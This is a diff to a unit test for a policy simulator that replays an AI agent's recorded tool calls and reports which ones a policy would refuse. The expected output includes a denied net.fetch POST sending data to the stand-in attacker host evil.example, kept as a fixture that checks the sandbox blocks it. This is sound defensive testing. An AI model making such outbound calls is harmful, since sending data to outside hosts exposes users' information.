@@ -45,7 +45,7 @@ describe("Simulate", () => {
       [9, "net.fetch", "denied"]
     ])
     expect(Simulate.formatReport(r, "tight.json")).toEqual([
-      "policy simulate: 3 of 5 recorded calls would be refused under tight.json",
+      "policy simulate: 3 of 5 recorded calls would be refused under tight.json (2 allowed, 2 denied, 1 over budget)",
       `  event #5: llm.call("gpt-4o-mini", "again") at agent.ax:4:9 in main: budget_exceeded: call 2 of budget 1`,
       `  event #7: fs.write("out.txt", "s2") at agent.ax:5:9 in main: denied: not granted by policy`,
       `  event #9: net.fetch("POST", "https://evil.example/x", "s2") at agent.ax:6:9 in main: denied: method POST is not in net_policy.allowed_methods [GET]`
